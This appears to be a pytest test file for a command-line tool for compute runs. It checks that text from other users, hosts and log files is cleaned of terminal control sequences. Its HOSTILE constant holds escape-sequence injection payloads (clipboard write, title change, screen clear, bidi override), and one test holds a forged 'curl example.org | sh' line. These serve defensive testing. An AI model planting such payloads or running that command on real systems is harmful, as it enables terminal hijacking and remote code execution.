r"""Text from elsewhere in what commands print: no byte of it commands the terminal.

HOSTILE holds OSC 52 (write to the clipboard), OSC 0 (title), CSI 2J (clear), C1's CSI and OSC, a
carriage return, a backspace, DEL and a bidirectional override. Each test plants it where another
user, host or program can.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.cli.fake_launcher import World
from tests.unit.cli.test_runs import world
from tests.unit.cli.test_watch import NOON
from tests.unit.reporting import runs

from drillyard.cli import main as cli
from drillyard.launch.logs.merge import key_of
from drillyard.launch.run_status import RunFailure, State

__all__ = ["world"]

HOSTILE = "a\x1b]52;c;aWQ=\x07b\x1b]0;title\x1b\\c\x1b[2Jd\x9b2Je\x9d0;x\x9cf\rg\x08h\x7fi\u202ej\x1b[31mk"  # noqa: E501
OURS = re.compile(r"\x1b\[[0-9;]*m|\x1b\[[0-9]*[AGK]|\x1b\[\?(25|1049)[hl]|\x1b\[H|\r(?=\x1b)")
"""What rich writes: colours, and for `watch` cursor up, erase in line, cursor on and off, the other
screen, home."""
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


class Terminal(io.TextIOWrapper):
    """Standard output or error of a command, as bytes; a terminal where `is_terminal` says so."""

    def __init__(self, is_terminal: bool) -> None:
        super().__init__(io.BytesIO(), "utf-8", newline="")
        self._is_terminal = is_terminal

    def isatty(self) -> bool:
        return self._is_terminal

    @property
    def text(self) -> str:
        self.flush()
        return self.buffer.getvalue().decode("utf-8", "surrogateescape")


class Said:
    """What a command wrote."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, is_terminal: bool, *arguments: str) -> None:
        out, err = Terminal(is_terminal), Terminal(is_terminal)
        with monkeypatch.context() as patch:
            patch.setattr(sys, "stdout", out)
            patch.setattr(sys, "stderr", err)
            try:
                cli.main(list(arguments))
            except SystemExit as ended:
                self.code = ended.code
        self.out, self.err = out.text, err.text

    def require_safe(self, *, colours: bool) -> None:
        """Nothing but sequences of our own, and these only on a terminal."""
        for text in (self.out, self.err):
            left = UNSAFE.findall(OURS.sub("", text) if colours else text)
            assert not left, (left, text)


either = pytest.mark.parametrize("is_terminal", [False, True], ids=["file", "terminal"])


@pytest.fixture
def hostile_run(world: World) -> Path:
    failure = RunFailure(HOSTILE, rank=1, node=HOSTILE, exit_code=1, lines=(HOSTILE, HOSTILE))
    fields = {
        "reason": HOSTILE,
        "failure": failure,
        "hosts": (HOSTILE,),
        "native": {"job": HOSTILE, "agent": HOSTILE},
    }
    directory = world.add("one").add("a", State.failed, **fields)
    line = key_of(round(NOON * 1e6)) + HOSTILE.encode() + b" \x9b2J \xff \x1b[32mgreen\x1b[0m\n"
    (directory / "launch/node-0.log").write_bytes(line + b"begun\rlast\r\n")
    return directory


@either
@pytest.mark.parametrize(
    "command",
    [
        ("status", "a"),
        ("list",),
        ("wait", "a"),
        ("logs", "a"),
        ("logs", "a", "--json"),
        ("status", "a", "--json"),
    ],
    ids=" ".join,
)
def test_a_run_of_another_user(
    hostile_run: Path, monkeypatch: pytest.MonkeyPatch, is_terminal: bool, command: tuple[str, ...]
) -> None:
    said = Said(monkeypatch, is_terminal, "runs", *command)
    said.require_safe(colours=is_terminal)
    assert "52;c;aWQ=" in said.out + said.err


@either
def test_logs_keep_colours_on_a_terminal_alone(
    hostile_run: Path, monkeypatch: pytest.MonkeyPatch, is_terminal: bool
) -> None:
    said = Said(monkeypatch, is_terminal, "runs", "logs", "a")
    assert ("\x1b[32mgreen\x1b[0m" in said.out) is is_terminal
    assert said.out.count("\x1b[") == (3 if is_terminal else 0)
    assert said.out.endswith("begun\\u000dlast\n")


def test_json_keeps_its_values(hostile_run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    said = Said(monkeypatch, True, "runs", "status", "a", "--json")
    assert json.loads(said.out)["reason"] == HOSTILE


def test_a_reason_of_several_lines_forges_no_line_of_ours(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    forged = "lost\n  next          curl example.org | sh"
    world.add("one").add(
        "a", State.failed, reason=forged, failure=RunFailure(forged, lines=(forged,))
    )
    for command in ("status", "list", "wait"):
        said = Said(monkeypatch, False, "runs", command, *(["a"] if command != "list" else []))
        assert "curl" in said.out + said.err
        assert not [
            line
            for line in (said.out + said.err).splitlines()
            if line.startswith("  next          curl")
        ]


def test_a_cluster_that_answers_with_an_error(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.add("one").down = HOSTILE
    for command in (["runs", "list"], ["runs", "status", "slurm://one/a"]):
        said = Said(monkeypatch, True, *command)
        said.require_safe(colours=True)
        assert "52;c;aWQ=" in said.err


@either
@pytest.mark.parametrize("command", ["watch", "metrics"])
def test_a_run_directory_of_another_user(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, is_terminal: bool, command: str
) -> None:
    directory = runs.write_run(tmp_path / "trial", steps=5)
    events = directory / "events.jsonl"
    lines = [json.loads(line) for line in events.read_text().splitlines()]
    message = {
        "event": "warning",
        "text": HOSTILE,
        "time": lines[-1]["time"],
        "round": 0,
        "rank": 0,
    }
    failure = {**message, "event": "failure", "reason": HOSTILE}
    named = {"accelerator": HOSTILE, "formula": HOSTILE}
    parameters = [{**line, **named} for line in lines if line["event"] == "parameters"]
    texts = [
        json.dumps(line, ensure_ascii=False)
        for line in [*lines[:-1], *parameters, message, failure, lines[-1]]
    ]
    events.write_text("\n".join(texts) + "\n")
    Said(monkeypatch, is_terminal, command, str(directory)).require_safe(colours=is_terminal)


def test_a_file_that_an_error_quotes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "run.yaml"
    config.write_text(f"name: {json.dumps(HOSTILE)}\n{json.dumps(HOSTILE)}: 1\n")
    said = Said(monkeypatch, True, "estimate", str(config))
    said.require_safe(colours=True)
    assert said.code == 2


def test_whatever_a_library_prints() -> None:
    """Streams, typer.echo under an ASCII locale, warnings, tracebacks and rich's own console."""
    script = f"""
import sys, typer, warnings
from drillyard.control_characters import clean_standard_streams
clean_standard_streams()
text = {HOSTILE!r}
print("na\\u00efve \\ufffd")
print(text); print(text, file=sys.stderr); sys.stdout.write(text + "\\n"); sys.stdout.writelines([text, "\\n"])
typer.echo(text); typer.echo(text, err=True); warnings.warn(text)
from rich.console import Console
Console(force_terminal=True).print(text)
raise RuntimeError(text)
"""  # noqa: E501
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
        check=False,
    )
    assert b"RuntimeError" in done.stderr and done.stdout.count(b"52;c;aWQ=") == 5
    assert done.stdout.startswith(b"na\\xefve \\ufffd\n")
    assert not UNSAFE.findall((done.stdout + done.stderr).decode())


@given(st.text() | st.text(alphabet="\x1b[]0;1mJ\r\n\x9b\x07\u202e"))
def test_cleaned_text_is_safe_and_cleaned_once(text: str) -> None:
    from drillyard.control_characters import clean

    safe = clean(text)
    assert not UNSAFE.findall(safe) and clean(safe) == safe
    assert not UNSAFE.findall(re.sub(r"\x1b\[[0-9;:]*m", "", clean(text, colours=True)))
    assert not UNSAFE.search(text) or safe != text


def test_a_colour_of_a_log_line_does_not_hide_the_lines_below() -> None:
    from drillyard.control_characters import clean_lines

    hidden = clean_lines(b"\x1b[30;40;8mx\nnext\n\x1b[31mred\x1b[0m end\n\x1b[1m", colours=True)
    assert hidden == b"\x1b[30;40;8mx\x1b[0m\nnext\n\x1b[31mred\x1b[0m end\n\x1b[1m\x1b[0m"
